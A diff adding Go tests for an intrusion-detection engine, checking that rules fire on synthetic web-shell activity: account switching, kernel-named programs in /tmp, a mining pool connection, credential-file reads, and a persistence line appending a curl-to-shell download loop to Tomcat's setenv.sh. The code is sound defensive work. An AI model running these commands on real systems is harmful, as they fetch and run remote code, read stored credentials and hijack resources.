@@ -1,0 +1,109 @@
+package detect
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/auditchain/auditchain/parser"
+)
+
+// TestAccountSwitchTempProgramMiner: the three acts the Tomcat capture's
+// beacon ran, and their innocent neighbours. The web account (uid 33
+// here) runs them inside a web shell (pid 201, a shell under the php-fpm
+// worker 200); the admin's su runs in an ssh session.
+func TestAccountSwitchTempProgramMiner(t *testing.T) {
+	for _, c := range []struct {
+		name  string
+		uid   uint32
+		exe   string
+		args  []string
+		rule  string // "" for no finding of these rules
+		stage Stage
+		title string
+	}{
+		{"su to another account", 33, "/usr/bin/su", []string{"su", "-", "deploy", "-c", "id"}, "lateral-remote-access-from-web", StageLateralMovement, "Account Switched"},
+		{"an admin's su, outside the web server", 0, "/usr/bin/su", []string{"su", "-", "deploy"}, "", 0, ""},
+		{"a kernel-named program in /var/tmp", 33, "/var/tmp/.kswapd0", []string{"/var/tmp/.kswapd0", "--threads", "2"}, "temp-program-web", StageSuspiciousSpawn, "Kernel-Named"},
+		{"a script run from /tmp", 33, "/usr/bin/dash", []string{"/bin/sh", "/tmp/.sysd"}, "temp-program-web", StageSuspiciousSpawn, ""},
+		{"a system program naming /tmp", 33, "/usr/bin/ls", []string{"ls", "/tmp/"}, "", 0, ""},
+		{"a mining pool", 33, "/usr/local/bin/worker", []string{"worker", "--url", "stratum+tcp://198.51.100.4:3333", "--threads", "2"}, "resource-hijacking", StageExfiltrationImpact, ""},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, err := New(Options{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			s := newSynth()
+			s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
+			s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "true")
+			user := map[uint32]string{0: "root", 33: "www-data"}[c.uid]
+			parent := 201
+			if c.uid == 0 { // an admin's login session, not the web server's
+				s.exec(300, 1, 0, "root", "/root", "/usr/sbin/sshd", "sshd: alice [priv]")
+				parent = 300
+			}
+			var got *Finding
+			for _, f := range e.Observe(s.exec(202, parent, c.uid, user, "/tmp", c.exe, c.args...), s.tree) {
+				for _, id := range f.RuleIDs {
+					if id == c.rule || c.rule == "" && (id == "lateral-remote-access-from-web" || id == "temp-program-web" || id == "resource-hijacking") {
+						got = f
+					}
+				}
+			}
+			switch {
+			case c.rule == "" && got != nil:
+				t.Fatalf("%s fired (%s)", got.RuleID, got.Title)
+			case c.rule == "":
+			case got == nil:
+				t.Fatalf("%s did not fire", c.rule)
+			case got.Stage != c.stage:
+				t.Errorf("stage %v, want %v", got.Stage, c.stage)
+			case !strings.Contains(got.Title, c.title):
+				t.Errorf("title %q, want it to say %q", got.Title, c.title)
+			}
+		})
+	}
+}
+
+// TestServiceStartAndCredentialStores: a line appended to a service's
+// start-up script is persistence; reading a server's credential store is
+// credential access (a suspicious spawn), by the file's fixed name.
+func TestServiceStartAndCredentialStores(t *testing.T) {
+	for _, c := range []struct {
+		cmd   string
+		stage Stage
+	}{
+		{`echo '(setsid sh -c "while :; do curl -fsS http://198.51.100.4/u | sh; sleep 300; done" &)' >> /srv/app/tomcat/bin/setenv.sh`, StagePersistence},
+		{"cat /srv/app/tomcat/conf/tomcat-users.xml", StageSuspiciousSpawn},
+		{"cat /home/app/.pgpass", StageSuspiciousSpawn},
+	} {
+		e, err := New(Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		s := newSynth()
+		s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
+		var got *Finding
+		for _, f := range e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree) {
+			if f.RuleID == "web-server-exploitation" || got == nil {
+				got = f
+			}
+		}
+		if got == nil || got.Stage != c.stage {
+			t.Errorf("%q: %v, want a finding on stage %v", c.cmd, got, c.stage)
+		}
+	}
+	// the write itself, when the script is watched
+	e, _ := New(Options{})
+	s := newSynth()
+	s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
+	s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "echo x >> /srv/app/tomcat/bin/setenv.sh")
+	var ids []string
+	for _, f := range e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", "/srv/app/tomcat/bin/setenv.sh", true), s.tree) {
+		ids = append(ids, f.RuleIDs...)
+	}
+	if !slices.Contains(ids, "web-persistence-file-write") {
+		t.Errorf("setenv.sh written by the web account: rules %v, want web-persistence-file-write", ids)
+	}
+}
